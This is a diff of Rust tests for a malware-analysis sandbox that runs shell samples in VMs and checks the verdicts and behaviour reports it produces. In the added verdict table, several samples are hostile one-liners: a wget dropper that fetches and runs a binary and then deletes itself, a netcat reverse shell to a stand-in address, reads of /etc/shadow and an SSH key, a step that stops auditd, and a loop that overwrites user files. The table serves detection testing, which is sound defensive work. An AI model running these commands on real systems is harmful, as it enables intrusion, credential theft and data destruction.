@@ -147,11 +147,13 @@ fn a_script_is_run_in_a_vm_and_the_report_says_what_it_did() {
     );
     // Just that: one file, one name, one connection, one request; three processes; nothing that stays.
     let sha256 = "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03";
+    let first = &list(&full, "processes")[0]["pid"];
     assert_eq!(
         full["files"],
-        json!([{ "path": "/tmp/dropped.txt", "what": "written", "bytes": 6, "sha256": sha256 }]),
+        json!([{ "pid": first, "path": "/tmp/dropped.txt", "what": "written", "bytes": 6, "sha256": sha256 }]),
         "{full:#}"
     );
+    assert_eq!(full["acts"], json!([]), "{full:#}");
     let network: Vec<&str> = list(&full, "network").iter().filter_map(|entry| entry["what"].as_str()).collect();
     assert_eq!(network, ["dns", "connect", "http"], "{full:#}");
     assert_has(&full, "network", &json!({ "what": "dns", "to": "evil.example" }));
@@ -164,6 +166,7 @@ fn a_script_is_run_in_a_vm_and_the_report_says_what_it_did() {
     let result = page["results"].as_array().unwrap().iter().find(|result| result["plugin"] == "run-linux").unwrap();
     assert_has(&result["report"], "artifacts", &json!({ "dataType": "file", "filename": "dropped.txt" }));
     assert_has(&result["report"], "artifacts", &json!({ "dataType": "url", "data": "http://evil.example/x" }));
+    assert_eq!(page["verdict"], "clean", "that alone speaks against nobody: {page:#}");
     // Nothing of it is there for the next one.
     let next = lab.run("next.sh", b"#!/bin/sh\nls /tmp\nid -u\n");
     assert_eq!((&next["output"], &next["files"]), (&json!("1000\n"), &json!([])), "{next:#}");
@@ -188,8 +191,52 @@ fn static_programs_double_forks_and_sessions_are_followed() {
     assert_has(&full, "files", &json!({ "path": "/tmp/a", "what": "renamed", "to": "/tmp/b" }));
     assert_has(&full, "files", &json!({ "path": "/tmp/b", "what": "deleted" }));
     assert!(!has(&full, "files", &json!({ "path": "/etc/cron.d/evil" })), "it could not write there: {full:#}");
+    assert_has(&full, "acts", &json!({ "what": "session" }));
     assert_has(&full, "persistence", &json!({ "path": "/home/user/.bashrc", "what": "shell" }));
     assert_has(&full, "persistence", &json!({ "path": "/etc/cron.d/evil", "what": "cron" }));
+}
+
+#[test]
+fn what_a_sample_does_decides_about_it() {
+    // Files that are left are samples too, and a few of them will do.
+    let lab = Lab::with("[\"vm1\"]", "children_count = 2\n");
+    let _up = lab.site.up();
+    let table: [(&str, &str, &str, &[&str]); 9] = [
+        (
+            "honest.sh",
+            "mkdir /tmp/a; seq 1 99 > /tmp/a/b; gzip /tmp/a/b; ls -l /tmp/a; (sleep 0.1; true) &",
+            "clean",
+            &[],
+        ),
+        ("cron.sh", "echo x > /etc/cron.d/x", "suspicious", &["stays"]),
+        // Through a link it is the same file.
+        ("link.sh", "ln -s ~/.profile /tmp/l; echo x >> /tmp/l", "suspicious", &["stays"]),
+        ("shadow.sh", "cd /etc; cat shadow", "suspicious", &["reads-passwords"]),
+        ("guards.sh", "systemctl stop auditd; cat ~/.ssh/id_ed25519", "malicious", &["stops-guards", "reads-keys"]),
+        (
+            "dropper.sh",
+            "wget -q -O /tmp/x http://203.0.113.7/bot; chmod +x /tmp/x; /tmp/x; rm -- \"$0\"",
+            "malicious",
+            &["runs-fetched", "raw-address", "deletes-itself"],
+        ),
+        ("shell.sh", "nc 203.0.113.7 4444 -e /bin/sh", "malicious", &["takes-orders", "raw-address"]),
+        (
+            "ransom.sh",
+            "for f in ~/Documents/*; do head -c 3000 /dev/urandom > \"$f.locked\"; rm \"$f\"; done",
+            "malicious",
+            &["encrypts"],
+        ),
+        ("miner.sh", "nslookup pool.supportxmr.com; killall xmrig", "malicious", &["mines", "kills-others"]),
+    ];
+    for (name, script, verdict, rules) in table {
+        let page = lab.ended(&lab.submit(name, format!("#!/bin/sh\n{script}\nexit 0\n").as_bytes()));
+        let results = page["results"].as_array().unwrap();
+        let ours = results.iter().find(|result| result["plugin"] == "run-linux").unwrap();
+        let found = list(&ours["report"]["summary"], "taxonomies");
+        let has = |rule: &&str| found.iter().any(|line| line["predicate"] == **rule && line["level"] != "info");
+        assert!(rules.iter().all(has), "{name} {rules:?}: {page:#}");
+        assert_eq!(page["verdict"], verdict, "{name}: {page:#}");
+    }
 }
 
 #[test]
@@ -228,6 +275,10 @@ fn a_guest_that_is_brought_down_counts_as_an_attempt_and_comes_back() {
         let next = lab.run(&format!("after-{name}"), format!("#!/bin/sh\n# after {name}\nid -u\n").as_bytes());
         assert_eq!(next["output"], "0\n");
     }
+    // Not even root kills the agent, which is the first process.
+    let full = lab.run("agent.sh", b"#!/bin/sh\nkill -9 1; kill -STOP 1; sleep 0.2; echo still\n");
+    assert_eq!((&full["ended"], &full["output"]), (&json!("exit 0"), &json!("still\n")), "{full:#}");
+    assert_has(&full, "acts", &json!({ "what": "kills", "detail": "9 1" }));
     // The agent's port is open already, and nobody else gets it.
     let full = lab.run("serial.sh", b"#!/bin/sh\ncat /dev/urandom > /dev/vport0p1 || exit 9\n");
     assert_eq!(full["ended"], "exit 9", "{full:#}");
@@ -235,28 +286,40 @@ fn a_guest_that_is_brought_down_counts_as_an_attempt_and_comes_back() {
 
 #[test]
 fn kills_of_qemu_and_of_the_lab_lose_nothing() {
+    const THRESHOLD: Duration = Duration::from_secs(60);
     let lab = Lab::with("[\"vm1\", \"vm2 revert=process\"]", "threshold = \"60s\"\n");
     let up = lab.site.up();
     lab.run("first.sh", b"#!/bin/sh\ntrue\n");
-    let samples: Vec<String> =
-        (0..4).map(|n| lab.submit(&format!("{n}.sh"), format!("#!/bin/sh\nsleep 1; echo {n}\n").as_bytes())).collect();
-    std::thread::sleep(Duration::from_millis(700));
-    let victims = lab.qemus();
-    assert!(!victims.is_empty());
-    for pid in victims {
-        // By number: these are ours.
-        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
+    let mut up = Some(up);
+    for round in 0..rounds() {
+        let script = |n: &str| format!("#!/bin/sh\nsleep 1; echo {round} {n}\n");
+        let samples: Vec<String> =
+            (0..4).map(|n| lab.submit(&format!("{n}.sh"), script(&n.to_string()).as_bytes())).collect();
+        std::thread::sleep(Duration::from_millis(700));
+        let victims = lab.qemus();
+        assert!(!victims.is_empty());
+        for pid in victims {
+            // By number: these are ours.
+            let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
+        }
+        let is_done = |sample: &str, n: &str| {
+            let page = lab.ended(sample);
+            assert_eq!((&page["state"], &full(&page)["output"]), (&json!("done"), &json!(format!("{round} {n}\n"))));
+        };
+        let killed = Instant::now();
+        samples.iter().enumerate().for_each(|(n, sample)| is_done(sample, &n.to_string()));
+        assert!(killed.elapsed() < THRESHOLD, "queued again within the threshold, and done");
+        let sample = lab.submit("last.sh", script("last").as_bytes());
+        std::thread::sleep(Duration::from_millis(500));
+        up.take().into_iter().for_each(|up| kill_with_its_vms(&lab, up));
+        up = Some(lab.site.up());
+        is_done(&sample, "last");
     }
-    for (n, sample) in samples.iter().enumerate() {
-        let page = lab.ended(sample);
-        assert_eq!((&page["state"], &full(&page)["output"]), (&json!("done"), &json!(format!("{n}\n"))));
-    }
-    let sample = lab.submit("last.sh", b"#!/bin/sh\nsleep 1; echo last\n");
-    std::thread::sleep(Duration::from_millis(500));
-    kill_with_its_vms(&lab, up);
-    let _up = lab.site.up();
-    let page = lab.ended(&sample);
-    assert_eq!((&page["state"], &full(&page)["output"]), (&json!("done"), &json!("last\n")));
+}
+
+/// How often everything is killed: `make soak` has the patience for more.
+fn rounds() -> u32 {
+    std::env::var("WEIR_VM_KILLS").ok().and_then(|rounds| rounds.parse().ok()).unwrap_or(1)
 }
 
 /// QEMU goes with whoever started it, also where that had no time to say so.
